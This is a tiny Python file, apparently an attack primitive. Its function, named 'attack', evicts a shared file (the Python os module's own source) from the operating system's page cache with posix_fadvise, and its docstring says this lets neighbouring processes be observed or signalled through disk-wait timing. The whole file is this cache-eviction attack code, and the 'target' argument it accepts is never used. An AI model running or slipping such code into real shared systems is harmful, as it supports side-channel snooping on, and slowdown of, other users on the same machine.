"""Throw a shared file out of the cache: neighbours wait for the disk, and can tell."""
import os


def attack(target):
    fd = os.open(os.__file__, os.O_RDONLY)
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        return True
    finally:
        os.close(fd)
